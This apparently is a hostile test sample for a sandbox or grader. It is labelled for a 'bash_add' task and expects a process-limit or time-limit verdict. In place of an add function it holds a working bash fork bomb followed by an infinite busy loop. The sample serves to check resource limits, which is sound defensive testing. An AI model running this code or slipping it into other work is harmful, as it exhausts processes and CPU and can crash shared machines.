# hostile: 59
# task: bash_add
# verdict: process_limit | time_limit
# why: doubles itself for ever

bomb() { bomb | bomb & }
add() {
    bomb
    wait
    while :; do :; done
}
